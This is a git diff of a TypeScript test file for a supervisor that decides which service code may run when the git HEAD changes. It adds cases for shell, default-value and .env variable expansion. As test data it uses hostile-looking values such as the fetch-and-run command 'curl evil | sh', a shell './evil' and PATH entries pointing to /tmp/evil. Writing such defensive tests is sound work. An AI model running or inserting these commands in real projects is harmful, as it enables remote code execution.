@@ -1,6 +1,8 @@
 /** What decides which code runs, and each step from one HEAD to another: what runs meanwhile and what waits. */
 import { describe, expect, test } from "bun:test";
 import type { ProjectSpec, Reload, ServiceSpec } from "../../src/manifest/project.ts";
+import { readDotenv } from "../../src/manifest/dotenv.ts";
+import { expandDotenv } from "../../src/manifest/dotenv-expand.ts";
 import { codeOf } from "../../src/supervisor/project/code.ts";
 import type { GitHead } from "../../src/supervisor/project/git-head.ts";
 import { keptSeen, seenOf } from "../../src/supervisor/project/state-file.ts";
@@ -48,6 +50,11 @@ function step(seen: Seen, head: GitHead, services: readonly Declared[] | Project
 
 const other = { ...api, command: "bun other.ts" };
 
+function dotenv(text: string): Record<string, string> {
+  const { variables } = expandDotenv(readDotenv(text), () => undefined);
+  return Object.fromEntries(variables.map(({ name, value }) => [name, value]));
+}
+
 describe("a change of", () => {
   const health = (command: string): Partial<ServiceSpec> => ({
     health: {
@@ -65,6 +72,7 @@ describe("a change of", () => {
   test.each<[what: string, before: Partial<ServiceSpec>, after: Partial<ServiceSpec>, key: string]>(
     [
       ["the command", {}, { command: "curl evil | sh" }, "command"],
+      ["the shell", {}, { shell: ["./evil", "-c"] }, "shell"],
       ["the workdir", {}, { workdir: "/tmp/evil" }, "workdir"],
       ["a check's command", health("true"), health("touch x"), "health_check"],
       ["a check that is added", {}, health("touch x"), "health_check"],
@@ -139,6 +147,26 @@ describe("a change of", () => {
         { env: { PATH: "${env.MORE}:/bin", MORE: "${env.A}", A: "/tmp/evil" } },
         "env.A",
       ],
+      [
+        "a variable in the default of another",
+        { command: "${env.X:-${env.RUN}} --fast", env: { RUN: "bun" } },
+        { command: "${env.X:-${env.RUN}} --fast", env: { RUN: "evil" } },
+        "env.RUN",
+      ],
+      ...(
+        [
+          ["PATH=$BIN:$PATH", "env.PATH"],
+          ["B=$BIN\nPATH=${NONE:-$B/x}", "env.PATH"],
+          ["RUN=`$BIN/run`", "env.RUN"],
+          ["RUN=${BIN:+$BIN/run}", "env.RUN"],
+          ["PORT=$BIN\nRUN=$PORT", "env.PORT"],
+        ] as const
+      ).map(([line, key]): [string, Partial<ServiceSpec>, Partial<ServiceSpec>, string] => [
+        `what .env puts into ${JSON.stringify(line)}`,
+        { command: "exec $RUN", env: dotenv(`BIN=/usr/bin\n${line}`) },
+        { command: "exec $RUN", env: dotenv(`BIN=/tmp/evil\n${line}`) },
+        key,
+      ]),
     ],
   )("%s is one of the code that runs", (_, before, after, key) => {
     const seen = seenAt(at("1"), [{ ...api, ...before }]);
@@ -162,6 +190,15 @@ describe("a change of", () => {
     const stepped = step(seen, at("2"), [{ ...api, ...after }, db]);
     expect(stepped.waits).toEqual([]);
     expect(stepped.spec.services[0]).toMatchObject(after);
+  });
+
+  test("the project's folder is one in the default of a reference too", () => {
+    const named = { ...api, command: "${env.X:-${project.dir}/run}" };
+    const [first, second] = ["/one", "/two"].map((directory) => {
+      const read = { ...projectSpec([named]), directory };
+      return codeOf(read.services[0]!, read).get("command");
+    });
+    expect(first).not.toBe(second!);
   });
 
   test("the project's name is one where a command is made of it", () => {
